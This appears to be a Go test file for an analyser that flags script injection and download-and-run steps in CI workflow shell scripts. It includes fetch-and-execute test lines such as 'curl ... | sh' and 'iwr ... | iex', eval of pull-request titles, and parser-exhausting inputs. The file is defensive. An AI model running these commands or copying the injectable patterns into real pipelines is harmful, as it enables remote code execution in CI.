		n := 0
		for _, f := range res.Facts {
			if f.Kind == FactDownloadRun {
				n++
				if f.Verified != want {
					t.Errorf("%s: verified %v", script, f.Verified)
				}
			}
		}
		if n != 1 {
			t.Errorf("%s: %d facts", script, n)
		}
	}
}

func TestShellContexts(t *testing.T) {
	const e = "${{ github.head_ref }}"
	for _, c := range []struct {
		script string
		want   ShellContext
	}{
		{"echo " + e, ContextBare},
		{"echo \"a " + e + "\"", ContextDouble},
		{"echo 'a " + e + "'", ContextSingle},
		{e + " --version", ContextCommand},
		{"# " + e + "\ntrue", ContextComment},
		{"cat <<EOF\n" + e + "\nEOF\n", ContextHeredoc},
		{"cat <<'EOF'\n" + e + "\nEOF\n", ContextHeredocQuoted},
		{"x=$(( " + e + " + 1 ))", ContextArithmetic},
		{"[[ " + e + " == a ]]", ContextBare},
		{"case " + e + " in a) ;; esac", ContextBare},
		{"for i in " + e + "; do :; done", ContextBare},
		{"x=${" + "Y:-" + e + "}", ContextBare},
		{"x[" + e + "]=1", ContextArithmetic},
		{"f() { echo '" + e + "'; }", ContextSingle},
		{"if true; then echo; else echo \"" + e + "\"; fi", ContextDouble},
		{"echo \\\n  " + e, ContextBare},
		{"bash -c 'echo " + e + "'", ContextSingle},
		{"if true; then\n  echo " + e + "\n", ContextBare}, // does not parse as a whole
	} {
		res := AnalyseScript(c.script, "bash", shellTestInput())
		if len(res.Exprs) != 1 || res.Exprs[0].Context != c.want {
			t.Errorf("%q: %+v, want %s", c.script, res.Exprs, c.want)
			continue
		}
		if x := res.Exprs[0]; c.script[x.Start:x.End] != e || x.Body != "github.head_ref" {
			t.Errorf("%q: expression %q, body %q", c.script, c.script[x.Start:x.End], x.Body)
		}
	}
}

func TestShellMask(t *testing.T) {
	for _, c := range []struct {
		script string
		kinds  ShellTemplates
		want   string
	}{
		{"a ${{ x }} b", TemplateGitHub, "a _ZZZZZZ_ b"},
		{"a ${{ '}}' }} b", TemplateGitHub, "a _ZZZZZZZZZ_ b"},
		{"a ${{ x", TemplateGitHub, "a ${{ x"},
		{"a $[[ inputs.x ]]", TemplateGitLab, "a _ZZZZZZZZZZZZZ_"},
		{"a $(Build.Branch) $(pwd) $(myVar)", TemplateAzure, "a _ZZZZZZZZZZZZZ_ $(pwd) _ZZZZZZ_"},
		{"a $(params.x) $(date)", TemplateTekton, "a _ZZZZZZZZZ_ $(date)"},
		{"a {{inputs.x}}", TemplateMustache, "a _ZZZZZZZZZZ_"},
		{"é ${{ é }}", TemplateGitHub, "é _ZZZZZZZ_"},
	} {
		got, _, _ := shellMask(c.script, c.kinds, nil)
		if got != c.want || len(got) != len(c.script) {
			t.Errorf("%q: %q, want %q", c.script, got, c.want)
		}
	}
}

func TestShellDialects(t *testing.T) {
	for shell, want := range map[string]ShellDialect{
		"": DialectBash, "bash": DialectBash, "sh": DialectSh, "/usr/bin/bash -euo pipefail {0}": DialectBash, "pwsh": DialectPowerShell,
		"powershell": DialectPowerShell, "cmd": DialectCmd, "python": DialectPython, "python3 {0}": DialectPython,
		"nix develop -c bash -e {0}": DialectBash, "perl {0}": DialectOther, `C:\tools\cygwin\bin\bash.exe -o igncr {0}`: DialectBash, "weird": DialectOther,
	} {
		if got := DialectOf(shell); got != want {
			t.Errorf("%q: %s, want %s", shell, got, want)
		}
	}
	// Other shells: the expression is code, and a download run at once is seen.
	res := AnalyseScript("iwr https://example.com/i.ps1 | iex\nWrite-Host \"${{ github.head_ref }}\"\n# ${{ github.head_ref }}\n", "pwsh", shellTestInput())
	var got []string
	for _, f := range res.Facts {
		got = append(got, fmt.Sprint(shellFactText(f), " ", f.Context))
	}
	want := []string{"download-run | iex ", "template | powershell | github.head_ref +untrusted code", "template | powershell | github.head_ref +untrusted comment"}
	if d := cmp.Diff(want, got); d != "" || res.Analysed {
		t.Errorf("analysed %v (-want +got):\n%s", res.Analysed, d)
	}
	// dash does not evaluate what a variable holds.
	if res := AnalyseScript("x=$(( TITLE + 1 ))", "sh", shellTestInput()); len(res.Facts) != 0 {
		t.Errorf("sh: %v", res.Facts)
	}
}

func TestShellUnparsed(t *testing.T) {
	res := AnalyseScript("if true; then\n  eval \"$TITLE\"\n  curl -s https://example.com/x | sh\n  echo \"${{ github.head_ref }}\"\n", "bash", shellTestInput())
	if res.Parsed || res.Problem == "" {
		t.Fatalf("parsed %v, problem %q", res.Parsed, res.Problem)
	}
	kinds := map[ShellKind]bool{}
	for _, f := range res.Facts {
		kinds[f.Kind] = true
		if f.Kind != FactTemplate && !f.Maybe {
			t.Errorf("%s is not marked", shellFactText(f))
		}
	}
	if !kinds[FactCode] || !kinds[FactDownloadRun] || !kinds[FactTemplate] {
		t.Errorf("facts of a script that does not parse: %v", kinds)
	}
}

func TestShellTrace(t *testing.T) {
	const script = "x=$(echo \"$TITLE\" | tr a b)\ny=\"run $x\"\neval \"$y\"\n"
	res := AnalyseScript(script, "bash", shellTestInput())
	if len(res.Facts) != 1 {
		t.Fatalf("%d facts", len(res.Facts))
	}
	var got []string
	for _, s := range res.Facts[0].Trace {
		got = append(got, fmt.Sprintf("%s: %s", script[s.Start:s.End], s.Text))
	}
	want := []string{
		`$TITLE: the title of the pull request (variable TITLE)`,
		`x=$(echo "$TITLE" | tr a b): is stored in x`,
		`y="run $x": is stored in y`,
		`eval "$y": is run by eval`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if reads := res.Reads; len(reads) != 1 || reads[0].Name != "TITLE" {
		t.Errorf("reads %v", reads)
	}
}

// shellHostile are scripts made to cost much.
func shellHostile() map[string]string {
	rep := strings.Repeat
	return map[string]string{
		"substitutions":  rep("$(", 200_000),
		"closed":         rep("$(", 30_000) + "x" + rep(")", 30_000),
		"subshells":      rep("( ", 200_000),
		"blocks":         rep("{ ", 200_000),
		"ifs":            rep("if x; then ", 50_000),
		"pipes":          "a" + rep("|a", 200_000),
		"ands":           "a" + rep("&&a", 200_000),
		"not":            rep("! ", 200_000) + "a",
		"arithmetic":     "x=$((" + rep("(", 200_000),
		"sum":            "x=$((1" + rep("+1", 200_000) + "))",
		"minus":          "x=$((" + rep("- ", 200_000) + "1))",
		"tests":          "[[ " + rep("! ", 200_000) + "a ]]",
		"test chain":     "[[ a" + rep(" && a", 100_000) + " ]]",
		"quotes":         rep("\"$(", 100_000),
		"defaults":       rep("${a:-", 100_000),
		"backquotes":     rep("`", 300_000),
		"heredocs":       rep("cat <<A\n", 50_000),
		"heredoc line":   "cat " + rep("<<A ", 50_000) + "\n",
		"expressions":    rep("${{ github.head_ref }}", 40_000),
		"open":           rep("${{", 200_000),
		"words":          rep("a ", 400_000),
		"variables":      rep("x=$x$x$TITLE\n", 50_000),
		"many variables": manyVariables(20_000),
		"branches":       manyVariables(2_000) + rep("if a; then b=1; else c=2; fi\n", 20_000),
		"functions":      "f() { f; f; f; f; f; f; f; f; f; f; f; f; }\nf\n",
		"calls":          callTree(40),
		"nested loops":   rep("for i in a; do ", 300) + "eval $TITLE" + rep("; done", 300),
		"case":           "case $x in " + rep("a) b;; ", 60_000) + "esac",
		"nul":            rep("\x00", 100_000),
		"invalid":        rep("\xff\xfe$(\x80", 50_000),
		"one line":       "echo \"" + rep("$TITLE ", 100_000) + "\" >> $GITHUB_ENV",
		"appends":        rep("echo \"$BODY\" >> f\n", 20_000) + "cat f >> $GITHUB_ENV",
		"else":           "if a; then b; " + rep("elif a; then b; ", 50_000) + "fi",
	}
}

func manyVariables(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "v%d=$TITLE\n", i)
	}
	return b.String()
}

func callTree(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "f%d() { f%d; f%d; f%d; }\n", i, i+1, i+1, i+1)
	}
	return b.String() + "f0\n"
}

func TestShellHostile(t *testing.T) {
	hostile := shellHostile()
	for _, name := range shSorted(hostile) {
		script := hostile[name]
		if len(script) > shellMaxScript {
			t.Errorf("%s: %d bytes", name, len(script))
		}
		res := AnalyseScript(script, "bash", shellTestInput())
		if len(res.Facts) > shellMaxFacts+shellMaxExprs {
			t.Errorf("%s: %d facts", name, len(res.Facts))
		}
	}
	// More than is parsed at all.
	res := AnalyseScript(strings.Repeat("echo hello\n", 200_000), "bash", ShellInput{})
	if res.Parsed || !res.Truncated {
		t.Errorf("a script of 2 MB: parsed %v, truncated %v", res.Parsed, res.Truncated)
	}
	// The bound counts, whatever it is.
	res = AnalyseScript(strings.Repeat("echo $TITLE\n", 100), "bash", ShellInput{Steps: 50})
	if !res.Truncated {
		t.Error("50 steps were enough for 100 commands")
	}
}

func TestShellDeterministic(t *testing.T) {
	var all strings.Builder
	for _, p := range shellPairs {
		all.WriteString(strings.TrimRight(p.bad, "\n") + "\n")
	}
	a := AnalyseScript(all.String(), "bash", shellTestInput())
	for range 5 {
		b := AnalyseScript(all.String(), "bash", shellTestInput())
		if d := cmp.Diff(a, b); d != "" {
			t.Fatalf("two runs differ:\n%s", d)
		}
	}
}

// TestShellTables looks for rows that can never be reached.
func TestShellTables(t *testing.T) {
	for i, a := range shellRunners {
		if a.what == "" {
			t.Errorf("%s: says nothing", a.cmd)
		}
		for _, b := range shellRunners[:i] {
			if a.cmd == b.cmd && (b.sub == "" || a.sub == b.sub) {
				t.Errorf("%s %s: an earlier row takes it", a.cmd, a.sub)
			}
		}
	}
	for k := range shellKeepers {
		if !shellFilters[k] {
			t.Errorf("%s keeps what it does not pass on", k)
		}
	}
}

func FuzzShell(f *testing.F) {
	for _, p := range shellPairs {
		f.Add(p.bad, "bash")
		f.Add(p.good, "sh")
	}
	f.Add("if not exist x (call a.bat & echo %TITLE%>> %GITHUB_ENV%)", "cmd")
	f.Add("with open(os.environ['GITHUB_ENV'], 'a') as f:\n  f.write(os.getenv('BODY'))\nos.system('make')", "python")
	f.Add("if ($x) { & \"a\" @\"\nX=$($env:BODY)\n\"@ >> $env:GITHUB_ENV }", "pwsh")
	f.Add("iwr x | iex ${{ github.head_ref }}", "pwsh")
	f.Add("Write-Host \"##vso[task.setvariable variable=x;isOutput=true]$(a.b)\"", "pwsh")
	f.Add("echo \"##vso[task.setvariable variable=x;issecret=true]$TITLE\" $(mine)", "bash")
	f.Add("f() { shift; eval \"$1\"; }\n. ./x.sh\ng \"$2\"\nwhile getopts a: o; do eval $OPTARG; shift 2; done\ncd ${0%/*}; $(pwd)/y \"$@\"", "bash")
	f.Fuzz(func(t *testing.T, script, shell string) {
		if len(script) > 1<<16 {
			return
		}
		powerShellLines(script)
		in := shellTestInput()
		in.Name = "a/b.sh"
		in.Args = []ShellSource{{}, {Labels: ShellUntrusted | ShellBlank, Text: "argument 2"}}
		in.Calls = []ShellCall{{Name: "f", Args: in.Args}}
		in.Steps = 20_000
		in.Workspace = ShellSource{Labels: ShellWorkspace}
		in.Templates = TemplateGitHub | TemplateGitLab | TemplateAzure | TemplateMustache | TemplateTekton
		in.Macros = map[string]bool{"mine": true}
		res := AnalyseScript(script, shell, in)
		n := int64(len(script))
		for _, x := range res.Exprs {
			if x.Start < 0 || x.End > n || x.Start >= x.End || x.Context == "" {
				t.Fatalf("expression %+v of %d bytes", x, n)
			}
		}
		for _, x := range res.Facts {
			if x.Start < 0 || x.End > n || x.Start > x.End {
				t.Fatalf("fact %s: %v of %d bytes", shellFactText(x), x.Span, n)
			}
			if len(x.Trace) > shMaxTrace+1 {
				t.Fatalf("trace of %d steps", len(x.Trace))
			}
			for _, s := range x.Trace {
				if s.Start < 0 || s.End > n || s.Start > s.End {
					t.Fatalf("fact %s: step %v of %d bytes", shellFactText(x), s, n)
				}
			}
		}
	})
}

// shellLinePairs are scripts of shells that are read command by command, in the form of
// shellPairs. The workspace is a stranger's.
var shellLinePairs = []struct {
	shell, name, bad, want, good string
}{
	{"pwsh", "npm", "npm ci", "execute | workspace +untrusted", "npm --version"},
	{"pwsh", "dotnet", "Write-Host hi\r\ndotnet.exe build -c Release", "execute | workspace +untrusted", "dotnet --info"},
	{"powershell", "script", `.\build.ps1 -Clean`, "execute | workspace | build.ps1 +untrusted", `C:\tools\build.ps1`},
	{"pwsh", "call", `& "./tools/x.ps1"; exit 0`, "execute | workspace | tools/x.ps1 +untrusted", `Get-Content "./tools/x.ps1"`},
	{"pwsh", "dot", `. .\tools\x.ps1`, "execute | workspace | tools/x.ps1 +untrusted", `# .\tools\x.ps1`},
	{"pwsh", "in a block", "if ($env:A -eq 'b') {\n  msbuild x.sln\n}", "execute | workspace +untrusted", "if ($env:A -eq 'msbuild x.sln') {\n  exit 1\n}"},
	{"pwsh", "python", "python x.py | Out-Null", "execute | workspace | x.py +untrusted", "python --version"},
	{"pwsh", "assigned", "$out = npm run build", "execute | workspace +untrusted", "$out = 'npm run build'"},
	{"pwsh", "continued", "npm `\n  ci", "execute | workspace +untrusted", "<#\nnpm ci\n#>"},
	{"pwsh", "elsewhere", "Set-Location tools; make", "execute | workspace +untrusted", "cd $env:TEMP; make"},
	{"pwsh", "start", "Start-Process -FilePath npm -ArgumentList 'ci' -Wait", "execute | workspace +untrusted", "Start-Process notepad"},
	{"pwsh", "iex", `iex "echo $env:TITLE"`, "code | Invoke-Expression | TITLE +untrusted", `iex "echo $env:OTHER"`},
	{"pwsh", "iex of a variable", "$c = $env:TITLE\nInvoke-Expression -Command $c", "code | Invoke-Expression | TITLE +untrusted", "$c = $env:TITLE\n$c = 'x'\nInvoke-Expression -Command $c"},
	{"pwsh", "iex at the end", `$env:TITLE | iex`, "code | Invoke-Expression | TITLE +untrusted", `$env:TITLE | Out-Host`},
	{"pwsh", "called", `& $env:TITLE`, "code | command name | TITLE +untrusted", `Write-Output $env:TITLE`},
	{"pwsh", "bash", `bash -c "echo $env:TITLE"`, "code | bash -c | TITLE +untrusted", `bash -c 'echo "$TITLE"'`},
	{"pwsh", "env", `echo "X=$env:BODY" >> $env:GITHUB_ENV`, "channel | GITHUB_ENV | X +smuggle +untrusted", `echo "X=$env:BODY" >> other.txt`},
	{"pwsh", "env by Out-File", `"X=$($env:BODY)" | Out-File -FilePath $env:GITHUB_ENV -Encoding utf8 -Append`, "channel | GITHUB_ENV | X +smuggle +untrusted", `'X=$env:BODY' | Out-File $env:OTHER`},
	{"pwsh", "env by Add-Content", `Add-Content -Path $env:GITHUB_ENV -Value "X=$env:BODY"`, "channel | GITHUB_ENV | X +smuggle +untrusted", `Add-Content -Path $env:OTHER -Value "X=$env:BODY"`},
	{"pwsh", "path", `Add-Content $env:GITHUB_PATH "$env:TITLE"`, "channel | GITHUB_PATH +smuggle +untrusted", `Set-Content x "$env:TITLE"`},
	{"pwsh", "output", "\"head=$env:HEAD\" >> \"$env:GITHUB_OUTPUT\"", "channel | GITHUB_OUTPUT | head +untrusted", "Write-Host \"head=$env:HEAD\""},
	{"pwsh", "checkout", "gh pr checkout $env:N\n", "checkout | workspace", "gh pr view 1 --json number"},
	{"pwsh", "fetch", "git fetch origin pull/1/head; git checkout FETCH_HEAD", "checkout | workspace", "git fetch origin main; git checkout main"},
	{"cmd", "npm", "@echo off\ncall npm.cmd ci && echo ok", "execute | workspace +untrusted", "rem npm ci\n:: npm ci\nnpm --version"},
	{"cmd", "batch", "cd /d sub\nbuild.bat x", "execute | workspace | sub/build.bat +untrusted", "where build.bat"},
	{"cmd", "value", "echo %TITLE%", "code | cmd | TITLE +untrusted", "echo %OTHER%"},
	{"cmd", "env", "echo X=%BODY%>> %GITHUB_ENV%", "channel | GITHUB_ENV | X +smuggle +untrusted", "echo X=%BODY%>> x.txt"},
	{"python", "list", "import subprocess\nsubprocess.run(['make', 'all'], check=True)", "execute | workspace +untrusted", "print(['make', 'all'])"},
	{"python", "system", `os.system("npm ci && echo")`, "execute | workspace +untrusted", `print("npm ci")`},
	{"python", "shell", "t = os.environ['TITLE']\nos.system(f'echo {t}')", "code | python | TITLE +untrusted", "t = os.environ['OTHER']\nos.system(f'echo {t}')"},
	{"python", "eval", "eval(os.environ['TITLE'])", "code | python eval | TITLE +untrusted", "re.eval(os.environ['TITLE'])"},
	{"python", "env", "with open(os.environ['GITHUB_ENV'], 'a') as f:\n  f.write(f\"X={os.environ['BODY']}\\n\")", "channel | GITHUB_ENV | X +smuggle +untrusted", "with open(os.environ['OTHER'], 'a') as f:\n  f.write(os.environ['BODY'])"},
	{"bash", "npx", "npx surge x", "execute | workspace +untrusted", "cd /tmp; npx surge x"},
	{"bash", "bunx", "bunx --bun surge@1.0.0 x", "execute | workspace +untrusted", "uvx ruff@0.1.0 check"},
	{"bash", "npm x", "npm x -- surge", "execute | workspace +untrusted", "npm view surge"},
	{"bash", "yarn tool", "yarn surge", "execute | workspace +untrusted", "yarn why surge"},
	{"bash", "awk -f", "awk -f a/x.awk y", "execute | workspace | a/x.awk +untrusted", "awk '{print $1}' y"},
	{"bash", "sed -f", "sed -f x.sed y", "execute | workspace | x.sed +untrusted", "sed -n p y"},
	{"bash", "find -exec", `find . -name '*.sh' -exec bash {} \;`, "code | script path | file names +untrusted", `find . -name '*.sh' -exec cat {} \;`},
	{"bash", "phpstan", "phpstan analyse", "execute | workspace +untrusted", "phpstan --version"},
	{"bash", "conda", "conda env create -f environment.yml", "execute | workspace +untrusted", "conda env list"},
	{"cmd", "if", "if not exist x msbuild x.sln", "execute | workspace +untrusted", "if exist make.txt exit 1"},
}

func TestShellLines(t *testing.T) {
	for _, p := range shellLinePairs {
		for i, script := range []string{p.bad, p.good} {
			in := shellTestInput()
			if strings.HasPrefix(p.want, "execute") || p.shell == "bash" {
				in.Workspace = ShellSource{Labels: ShellUntrusted | ShellWorkspace, Text: "a fork"}
			}
			res := AnalyseScript(script, p.shell, in)
			var got []string
			kind, _, _ := strings.Cut(p.want, " ")
			found := false
			for _, f := range res.Facts {
				s := shellFactText(f)
				got = append(got, s)
				if int(f.End) > len(script) || f.End < f.Start || f.Start < 0 {
					t.Errorf("%s %s: span %v of %d bytes", p.shell, p.name, f.Span, len(script))
				}
				found = found || i == 0 && s == p.want || i == 1 && strings.HasPrefix(s, kind+" ") && f.Sink != SinkOutput
			}
			if found != (i == 0) {
				t.Errorf("%s %s (%d): found %t: %q", p.shell, p.name, i, found, got)
			}
		}
	}
}

func TestJQPlain(t *testing.T) {
	for filter, want := range map[string]bool{
		"if .update_only then 1 else 0 end": true, `if .a == "x|y" then "yes" elif .b then "no" else "none" end`: true, "length": true,
		".items | length": true, "[.[] | select(.name)] | length": true, `.title | test("^fix")`: true, ".number | tonumber": true, ".draft | not": true,
		`.state == "open"`: true, `.a.b >= 3 and .state != "closed"`: true, `.labels | map(.name) | any(. == "run")`: true, `"fixed"`: true,
		".title": false, "if .a then .title else 0 end": false, `if .a then "\(.title)" else "" end`: false, ".a // 1": false, ".title, 1": false,
		".title | ascii_downcase": false, "1 | .title": false, ".a |= length": false, `"\(.title)"`: false, `.title + "x"`: false, "": false,
		`if .a then 1 else 0 end | . as $x | .title`: false, "[.title, 1]": false, `.lengths`: false,
	} {
		if got := shJQPlain(filter); got != want {
			t.Errorf("%s: %v, want %v", filter, got, want)
		}
	}
}
